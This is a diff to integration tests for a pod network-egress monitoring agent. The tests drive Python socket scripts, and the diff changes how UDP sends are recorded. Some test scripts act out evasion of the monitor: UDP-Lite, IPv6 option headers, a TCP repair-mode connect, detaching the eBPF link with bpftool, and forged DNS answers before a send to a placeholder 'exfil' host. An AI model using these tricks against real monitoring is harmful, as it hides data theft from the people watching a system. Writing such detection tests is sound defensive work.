@@ -54,9 +54,20 @@ u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(("{h4}", {u4}));
 u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.connect(("{h6}", {u6})); u.send(b"c6")
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b"s4", ("{h4}", {u4p}))
 u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.sendto(b"s6", ("{h6}", {u6p}))
+# What code that tries to slip by might do: UDP-Lite, an IPv6 extension header before the
+# UDP header, a TCP connect in repair mode (no SYN sent), a UDP connect that sends nothing.
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); u.sendto(b"l4", ("{h4}", {lite}))
+u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+u.setsockopt(socket.IPPROTO_IPV6, 59, bytes([0, 0, 1, 4, 0, 0, 0, 0])); u.sendto(b"o6", ("{h6}", {opts}))
+t = socket.socket(); t.setsockopt(socket.IPPROTO_TCP, 19, 1); t.connect(("{h4}", {repair})); t.close()
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("{h4}", {quiet}))
 "#,
         u4p = u4 + 1,
         u6p = u6 + 1,
+        lite = u4 + 2,
+        opts = u6 + 2,
+        repair = t4 + 1,
+        quiet = u4 + 3,
     );
     let out = python(&pod.container, Some(&ns), &script);
     let pid = pid_of(&out);
@@ -65,10 +76,13 @@ u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.sendto(b"s6", ("{h6}", 
     let expected = [
         (IpAddr::V4(h4), t4, Proto::Tcp, Hook::Connect),
         (IpAddr::V6(h6), t6, Proto::Tcp, Hook::Connect),
-        (IpAddr::V4(h4), u4, Proto::Udp, Hook::Connect),
-        (IpAddr::V6(h6), u6, Proto::Udp, Hook::Connect),
+        (IpAddr::V4(h4), u4, Proto::Udp, Hook::Sendmsg),
+        (IpAddr::V6(h6), u6, Proto::Udp, Hook::Sendmsg),
         (IpAddr::V4(h4), u4 + 1, Proto::Udp, Hook::Sendmsg),
         (IpAddr::V6(h6), u6 + 1, Proto::Udp, Hook::Sendmsg),
+        (IpAddr::V4(h4), u4 + 2, Proto::Udp, Hook::Sendmsg),
+        (IpAddr::V6(h6), u6 + 2, Proto::Udp, Hook::Sendmsg),
+        (IpAddr::V4(h4), t4 + 1, Proto::Tcp, Hook::Connect),
     ];
     for (ip, port, proto, hook) in expected {
         let o = one(&obs, ip, port, proto);
@@ -84,6 +98,8 @@ u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.sendto(b"s6", ("{h6}", 
         let age = std::time::SystemTime::now().duration_since(o.time).expect("a time in the past");
         assert!(age < Duration::from_secs(60), "time {:?} is {age:?} old", o.time);
     }
+    // A UDP socket that connects and sends nothing has called nowhere (the libc resolver's
+    // address sorting does that for every address it orders): not reported.
     assert_eq!(obs.len(), expected.len(), "nothing else: {obs:#?}");
     assert_eq!(agent.probes.stats().unwrap().lost_calls, 0);
 }
@@ -114,7 +130,7 @@ async fn names_come_from_the_answers_each_pod_received() {
     let resolve_and_call = |name: &str, family: &str| {
         format!(
             "ai = socket.getaddrinfo('{name}', 443, socket.{family}, socket.SOCK_DGRAM)[0]\n\
-             u = socket.socket(ai[0], socket.SOCK_DGRAM); u.connect(ai[4])\n"
+             u = socket.socket(ai[0], socket.SOCK_DGRAM); u.connect(ai[4]); u.send(b'x')\n"
         )
     };
     let a = python(
@@ -127,7 +143,7 @@ async fn names_come_from_the_answers_each_pod_received() {
         Some(&ns_b),
         &format!(
             "import os, socket\nprint(os.getpid())\n\
-             u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('{shared}', 443))\n{}{}",
+             u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('{shared}', 443)); u.send(b'x')\n{}{}",
             resolve_and_call("www.example", "AF_INET"),
             resolve_and_call("six.example", "AF_INET6"),
         ),
@@ -172,7 +188,7 @@ async fn a_nested_cgroup_made_after_the_scan_is_attributed_to_its_pod_on_the_nex
         &nested,
         None,
         &format!(
-            "import os, socket\nprint(os.getpid())\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('127.0.0.1', {port}))"
+            "import os, socket\nprint(os.getpid())\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))"
         ),
     );
     let seen = agent.drain().await;
@@ -203,7 +219,7 @@ async fn processes_outside_monitored_cgroups_produce_nothing() {
         .cgroup(&format!("kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod{}.slice", "0".repeat(32)));
     let service = agent.cgroup("system.slice/containerd.service");
     let before = agent.probes.stats().unwrap();
-    let script = "import socket\nfor p in range(20):\n  socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('127.0.0.1', 9000 + p))";
+    let script = "import socket\nfor p in range(20):\n  socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9000 + p))";
     python(&unmonitored, None, script);
     python(&service, None, script);
     // They run none of the programs.
@@ -231,7 +247,7 @@ async fn burst(window: Duration) -> (usize, u64, u64) {
         &pod.container,
         Some(&ns),
         &format!(
-            "import socket\nfor _ in range(1000):\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('{h4}', {port})); s.close()"
+            "import socket\nfor _ in range(1000):\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('{h4}', {port})); s.send(b'x'); s.close()"
         ),
     );
     let records = find(&agent.drain().await, IpAddr::V4(h4), port, Proto::Udp).len();
@@ -273,7 +289,7 @@ for cpu in range({cpus}):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     for _ in range(3):
       for p in range(600):
-        s.connect(('127.0.0.1', 20000 + p))
+        s.sendto(b'x', ('127.0.0.1', 20000 + p))
     os._exit(0)
   kids.append(pid)
 for pid in kids:
@@ -318,7 +334,7 @@ async fn malformed_dns_answers_are_counted_and_names_keep_working() {
         Some(&ns),
         &format!(
             "import socket\n{}{}ai = socket.getaddrinfo('ok.example', 80, socket.AF_INET, socket.SOCK_DGRAM)[0]\n\
-             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(ai[4])\n",
+             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ai[4])\n",
             query(7, "loop.example"),
             query(8, "short.example")
         ),
@@ -343,7 +359,7 @@ fn trace_prints_json_for_a_command_that_calls_three_destinations() {
         "import os, socket\nprint(os.getpid(), flush=True)\n\
          socket.create_connection(('api.example', {tp})).close()\n\
          socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('{h6}', {up}))\n\
-         socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('127.0.0.1', 9))\n"
+         socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))\n"
     );
     let out = std::process::Command::new(env!("CARGO_BIN_EXE_runwarden-agent"))
         .args(["trace", "--json", "--", "ip", "netns", "exec", &ns.name, "python3", "-c", &script])
@@ -418,7 +434,7 @@ async fn records_that_do_not_fit_are_counted_as_lost() {
     python(
         &pod.container,
         None,
-        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor _ in range(60000):\n  s.connect(('127.0.0.1', 9))",
+        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor _ in range(60000):\n  s.sendto(b'x', ('127.0.0.1', 9))",
     );
     let stats = agent.probes.stats().unwrap();
     assert!(stats.lost_calls > 0, "{stats:?}");
@@ -448,8 +464,8 @@ async fn a_long_answer_is_cut_at_the_capture_and_the_addresses_that_fit_are_name
              q = bytes([0, 9, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 4]) + b'many' + bytes([7]) + b'example' + bytes([0, 0, 1, 0, 1])\n\
              s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, ('{h4}', 53))\n\
              assert len(s.recv(4096)) > 1500\n\
-             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('198.18.0.0', 443))\n\
-             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('198.18.0.99', 443))\n"
+             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.18.0.0', 443))\n\
+             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.18.0.99', 443))\n"
         ),
     );
     let obs = agent.drain().await;
@@ -483,7 +499,7 @@ fn the_programs_need_three_named_capabilities_and_say_which_is_missing() {
     let out = python(
         &dir,
         None,
-        "import os, socket\nprint(os.getpid())\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('127.0.0.1', 9))",
+        "import os, socket\nprint(os.getpid())\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))",
     );
     let pid = pid_of(&out);
     std::thread::sleep(Duration::from_millis(100));
@@ -538,7 +554,7 @@ async fn answers_a_pod_sends_itself_name_nothing() {
              victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); victim.bind(('127.0.0.1', 0))\n\
              fake = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fake.bind(('127.0.0.1', 53))\n\
              fake.sendto(bytes([{}]), victim.getsockname()); victim.recv(2048)\n\
-             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('203.0.113.66', 443))\n",
+             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('203.0.113.66', 443))\n",
             common::py_bytes(&forged)
         ),
     );
@@ -584,8 +600,8 @@ async fn a_server_inside_the_pod_that_was_asked_still_names_nothing_and_a_contra
              victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); victim.bind(('127.0.0.1', 0))\n\
              victim.sendto(bytes([{}]), ('127.0.0.1', 53)); _, asker = fake.recvfrom(512)\n\
              fake.sendto(bytes([{}]), asker); victim.recv(2048)\n\
-             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('{exfil}', 443))\n\
-             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(real)\n",
+             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{exfil}', 443))\n\
+             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', real)\n",
             query, bytes
         ),
     );
@@ -653,7 +669,7 @@ async fn a_nested_containers_answer_claiming_the_cluster_resolver_is_not_believe
             "import socket\n\
              s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 45053)); s.settimeout(10)\n\
              s.sendto(bytes([{query}]), ('{host}', 53)); s.recv(2048)\n\
-             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('{exfil}', 443))\n"
+             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{exfil}', 443))\n"
         );
         std::thread::spawn(move || {
             let mut cmd = std::process::Command::new("sh");
@@ -692,7 +708,7 @@ async fn destinations_whose_records_were_lost_are_recovered_from_the_kernel_tabl
     let out = python(
         &pod.container,
         None,
-        "import os, socket\nprint(os.getpid())\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in range(60000):\n  s.connect(('127.0.0.1', 1024 + p))",
+        "import os, socket\nprint(os.getpid())\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in range(60000):\n  s.sendto(b'x', ('127.0.0.1', 1024 + p))",
     );
     let stats = agent.probes.stats().unwrap();
     assert!(stats.lost_calls > 0, "{stats:?}");
@@ -720,12 +736,12 @@ async fn one_pods_flood_does_not_take_another_pods_records() {
     python(
         &flood.container,
         None,
-        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in range(60000):\n  s.connect(('127.0.0.1', 1024 + p))",
+        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in range(60000):\n  s.sendto(b'x', ('127.0.0.1', 1024 + p))",
     );
     python(
         &quiet.container,
         None,
-        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in range(100):\n  s.connect(('127.0.0.2', 2000 + p))",
+        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in range(100):\n  s.sendto(b'x', ('127.0.0.2', 2000 + p))",
     );
     let stats = agent.probes.stats().unwrap();
     assert_eq!(stats.lost_calls, 0, "the flood did not fill the ring buffer: {stats:?}");
@@ -779,7 +795,7 @@ async fn the_programs_run_only_in_armed_pods_and_see_an_armed_pod_from_its_first
         format!(
             "import os, socket\nprint(os.getpid())\n\
              ai = socket.getaddrinfo('{name}', 443, socket.AF_INET, socket.SOCK_DGRAM)[0]\n\
-             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(ai[4])\n"
+             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ai[4])\n"
         )
     };
     let script = &resolve_and_call("svc.example");
@@ -844,15 +860,15 @@ async fn programs_detached_a_mark_deleted_or_the_settings_rewritten_from_outside
     agent.rescan();
     assert_eq!(agent.probes.check_pods().unwrap(), [], "nothing wrong after arming");
 
-    // What a process with CAP_SYS_ADMIN could do: detach the pod's connect4 link by id.
+    // What a process with CAP_SYS_ADMIN could do: detach the pod's egress link by id.
     let links = links_of(&pod.dir);
-    assert_eq!(links.len(), 6, "{links:?}");
-    let (connect4, _) = links.iter().find(|(_, t)| t == "cgroup_inet4_connect").unwrap();
+    assert_eq!(links.len(), 3, "{links:?}");
+    let (egress, _) = links.iter().find(|(_, t)| t == "cgroup_inet_egress").unwrap();
     let out =
-        std::process::Command::new("bpftool").args(["link", "detach", "id", &connect4.to_string()]).output().unwrap();
+        std::process::Command::new("bpftool").args(["link", "detach", "id", &egress.to_string()]).output().unwrap();
     assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
-    assert!(!effective(&pod.container).iter().any(|(_, name)| name == "connect4"));
-    let script = "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('127.0.0.1', 9901))";
+    assert!(!effective(&pod.container).iter().any(|(_, name)| name == "egress"));
+    let script = "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9901))";
     python(&pod.container, None, script);
     assert!(agent.drain().await.is_empty(), "unseen while detached");
 
@@ -860,7 +876,7 @@ async fn programs_detached_a_mark_deleted_or_the_settings_rewritten_from_outside
     assert_eq!(found.len(), 1, "{found:?}");
     assert_eq!(
         (found[0].id, found[0].detached.as_slice(), found[0].unmarked),
-        (pod.cgroup_id, ["connect4"].as_slice(), false)
+        (pod.cgroup_id, ["egress"].as_slice(), false)
     );
     assert_eq!(effective(&pod.container), runwarden_programs(), "attached again");
     python(&pod.container, None, script);
